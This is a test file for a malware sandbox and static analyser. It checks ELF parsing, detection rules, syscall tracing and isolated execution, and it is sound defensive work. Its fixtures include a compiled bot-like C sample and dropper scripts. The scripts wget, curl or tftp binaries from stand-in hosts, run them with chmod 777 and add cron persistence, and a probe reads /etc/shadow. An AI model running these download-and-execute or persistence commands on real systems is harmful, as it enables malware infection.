import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  analyzeSample,
  analyzeStatic,
  parseElf,
  parseRules,
  matchRules,
  RuleSyntaxError,
  sandboxAvailable,
  parseTrace,
} from '../../src/sandbox/index.js';

const C_SAMPLE = `
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <fcntl.h>
/* harmless test program: tries a few connections and writes files, like a small bot would */
static void try_connect(const char *ip, int port) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a; memset(&a, 0, sizeof a);
  a.sin_family = AF_INET; a.sin_port = htons(port); inet_pton(AF_INET, ip, &a.sin_addr);
  fcntl(s, F_SETFL, O_NONBLOCK);
  connect(s, (struct sockaddr *)&a, sizeof a);
  close(s);
}
int main(void) {
  char ip[32];
  for (int i = 1; i <= 10; i++) { snprintf(ip, sizeof ip, "198.51.100.%d", i); try_connect(ip, 23); }
  for (int i = 0; i < 3; i++) try_connect("203.0.113.9", 6667);
  FILE *f = fopen("/tmp/sb/.dropped", "w"); if (f) { fputs("x", f); fclose(f); }
  f = fopen("/etc/init.d/S99bot", "w"); if (f) fclose(f);
  unlink("/tmp/sb/.dropped");
  struct hostent *h = gethostbyname("cnc.example.com");
  (void)h;
  puts("/bin/busybox ECCHI");
  return 0;
}
`;

function compile(): Buffer | null {
  const dir = mkdtempSync(join(tmpdir(), 'moat-sb-test-'));
  writeFileSync(join(dir, 'bot.c'), C_SAMPLE);
  try {
    execFileSync('gcc', ['-O1', '-o', join(dir, 'bot'), join(dir, 'bot.c')], { stdio: 'pipe' });
  } catch {
    return null;
  }
  return readFileSync(join(dir, 'bot'));
}

test('static: ELF header, sections, imports and indicators of a compiled program', (t) => {
  const bin = compile();
  if (!bin) return t.skip('gcc not available');
  const elf = parseElf(bin)!;
  assert.equal(elf.bits, 64);
  assert.equal(elf.endian, 'little');
  assert.equal(elf.machine, 'x86-64');
  assert.ok(elf.sections.some((s) => s.name === '.text'));
  assert.ok(elf.imports.includes('connect'));
  assert.ok(elf.entry > 0);
  const st = analyzeStatic(bin);
  assert.equal(st.fileType, 'elf64-x86-64-little');
  assert.ok(st.indicators.domains.includes('cnc.example.com'));
  // a truncated header is reported, not thrown
  const cut = parseElf(bin.subarray(0, 80))!;
  assert.equal(cut.machine, 'x86-64');
  assert.ok(cut.errors.length > 0);
  assert.equal(parseElf(Buffer.from('nope')), null);
});

test('static: dropper script facts and rules', () => {
  const script = Buffer.from(
    '#!/bin/sh\ncd /tmp || cd /var/run\nwget http://203.0.113.5/bins/x86 -O .x; chmod 777 .x; ./.x scan\necho "* * * * * /tmp/.x" | crontab -\n/bin/busybox tftp -g -r m.arm 203.0.113.5\n',
  );
  const st = analyzeStatic(script);
  assert.equal(st.fileType, 'script-shell');
  assert.deepEqual(st.script!.downloads, ['http://203.0.113.5/bins/x86', 'tftp://203.0.113.5/m.arm']);
  assert.equal(st.script!.persistence.length, 1);
  assert.ok(st.rules.some((r) => r.rule === 'cron_persistence'));
  assert.ok(st.indicators.ips.includes('203.0.113.5'));
});

test('rules: own format parses, matches, and errors name the line', () => {
  const rules = parseRules('rule a\n  label scanner\n  text "abc"\n  hex 00 01\n  match all\n');
  assert.equal(matchRules(rules, Buffer.from([0x61, 0x62, 0x63, 0, 1])).length, 1);
  assert.equal(matchRules(rules, Buffer.from('abc')).length, 0);
  assert.throws(
    () => parseRules('rule a\n  hex zz\n', 'my.rules'),
    (e: Error) => e instanceof RuleSyntaxError && /my\.rules:2/.test(e.message),
  );
});

test('trace parser joins unfinished/resumed lines', () => {
  const f = parseTrace(
    [
      '100 execve("./sample", ["./sample"], 0x7ffd /* 3 vars */) = 0',
      '100 connect(3, {sa_family=AF_INET, sin_port=htons(23), sin_addr=inet_addr("198.51.100.1")}, 16 <unfinished ...>',
      '101 clone(child_stack=NULL) = 0',
      '100 <... connect resumed>) = -1 EINPROGRESS (Operation now in progress)',
      '100 openat(AT_FDCWD, "/etc/init.d/S99", O_WRONLY|O_CREAT|O_TRUNC, 0666) = -1 EACCES (Permission denied)',
    ].join('\n'),
  );
  assert.equal(f.processes[0].path, './sample');
  assert.deepEqual(f.network[0], {
    syscall: 'connect',
    family: 'AF_INET',
    ip: '198.51.100.1',
    port: 23,
    result: -1,
  });
  assert.deepEqual(f.filesWritten, [{ path: '/etc/init.d/S99', ok: false }]);
});

test('dynamic: the compiled bot runs isolated and is labelled scanner + c2-beacon + persistence', async (t) => {
  const why = sandboxAvailable();
  if (why) return t.skip(`sandbox unavailable: ${why}`);
  const bin = compile();
  if (!bin) return t.skip('gcc not available');
  const keep = mkdtempSync(join(tmpdir(), 'moat-sb-keep-'));
  const events: Array<Record<string, unknown>> = [];
  const r = await analyzeSample(bin, {
    timeoutSeconds: 5,
    keepDir: keep,
    onEvent: (e) => void events.push(e),
  });
  assert.ok(r.dynamic?.ran);
  const d = r.dynamic!;
  assert.equal(d.exitCode, 0);
  assert.ok(d.trace.network.filter((n) => n.port === 23).length >= 10);
  assert.ok(
    d.trace.filesWritten.some((w) => w.path === '/etc/init.d/S99bot' && !w.ok),
    'write outside the sandbox denied',
  );
  assert.ok(d.trace.filesDeleted.includes('/tmp/sb/.dropped'));
  assert.ok(d.sink.some((s) => s.kind === 'dns' && s.name === 'cnc.example.com'));
  assert.ok((d.pcapPackets ?? 0) > 0);
  assert.ok(existsSync(d.pcap!));
  assert.ok(
    (d.flows ?? []).some((f) => f.dest.startsWith('198.51.100.') && f.dest.endsWith(':23')),
    JSON.stringify(d.flows?.slice(0, 5)),
  );
  for (const l of ['scanner', 'c2-beacon', 'persistence'] as const)
    assert.ok(r.labels.includes(l), `${l} in ${r.labels}`);
  assert.ok(!existsSync('/etc/init.d/S99bot'), 'the sample never wrote to the host');
  assert.equal(events[0].event_type, 'sandbox');
  const nsList = execFileSync('ip', ['netns', 'list'], { encoding: 'utf8' });
  assert.ok(!nsList.includes(d.namespace), 'namespace removed');
});

test('dynamic: a dropper script fetches from the sink and is labelled downloader', async (t) => {
  const why = sandboxAvailable();
  if (why) return t.skip(`sandbox unavailable: ${why}`);
  const script = Buffer.from(
    '#!/bin/sh\ncd /tmp/sb\ncurl -s -o payload http://update.example.net/bins/x86 || true\necho ok > marker\n',
  );
  const r = await analyzeSample(script, { timeoutSeconds: 5 });
  assert.ok(r.dynamic?.ran);
  assert.ok(r.dynamic!.sink.some((s) => s.kind === 'http' && s.url === '/bins/x86'));
  assert.ok(r.labels.includes('downloader'));
  assert.ok(!r.labels.includes('benign'));
});

test('dynamic: a harmless script is benign; an ARM ELF is never run', async (t) => {
  const arm = Buffer.alloc(64);
  arm.write('\x7fELF', 0, 'latin1');
  arm[4] = 1;
  arm[5] = 1;
  arm.writeUInt16LE(2, 16);
  arm.writeUInt16LE(40, 18);
  const r1 = await analyzeSample(arm);
  assert.equal(r1.dynamic, undefined);
  assert.match(r1.dynamicSkipped!, /not runnable/);
  if (sandboxAvailable()) return t.skip('sandbox unavailable');
  const r2 = await analyzeSample(Buffer.from('#!/bin/sh\necho hello\n'), { timeoutSeconds: 3 });
  assert.deepEqual(r2.labels, ['benign']);
});

test('dynamic: the sample runs in its own user namespace as root that is host uid 65534', async (t) => {
  const why = sandboxAvailable();
  if (why) return t.skip(`sandbox unavailable: ${why}`);
  const probe = `/root/moat-sb-probe-${process.pid}`;
  const script = Buffer.from(
    [
      '#!/bin/sh',
      'id',
      'echo "map: $(cat /proc/self/uid_map)"',
      `echo owned > ${probe} 2>/dev/null && echo "host write ok" || echo "host write denied"`,
      'cat /etc/shadow >/dev/null 2>&1 && echo "shadow read" || echo "shadow denied"',
      'echo "pids: $(ls /proc | grep -c "^[0-9]")"',
      'echo x > /tmp/sb/inside && echo "own dir ok"',
    ].join('\n') + '\n',
  );
  const r = await analyzeSample(script, { timeoutSeconds: 5 });
  const d = r.dynamic!;
  assert.ok(d.ran);
  // the sandbox's own probe and the sample agree: uid 0 inside, host uid 65534 outside
  assert.equal(d.identity?.uidMap, '0 65534 1', JSON.stringify(d.identity));
  assert.equal(d.identity?.gidMap, '0 65534 1');
  assert.match(d.identity!.id, /^uid=0\(root\) gid=0\(root\)/);
  assert.match(d.output, /uid=0\(root\)/, d.output);
  assert.match(d.output, /map:\s+0\s+65534\s+1/);
  assert.match(d.output, /host write denied/);
  assert.match(d.output, /shadow denied/);
  assert.match(d.output, /own dir ok/);
  const pids = Number(/pids: (\d+)/.exec(d.output)?.[1]);
  assert.ok(pids > 0 && pids < 10, `only the sandbox's processes are visible (${pids})`);
  assert.ok(!existsSync(probe), 'the sample never wrote to the host');
  assert.ok(d.trace.filesWritten.some((w) => w.path === probe && !w.ok));
  // the trace starts at the sample: the wrappers' uid_map writes are not its behaviour
  assert.ok(
    !d.trace.filesWritten.some((w) => w.path.includes('uid_map')),
    JSON.stringify(d.trace.filesWritten),
  );
  assert.ok(!d.trace.processes.some((p) => /setpriv|unshare|prlimit/.test(p.path)));
  assert.deepEqual(r.labels, ['benign']);
});
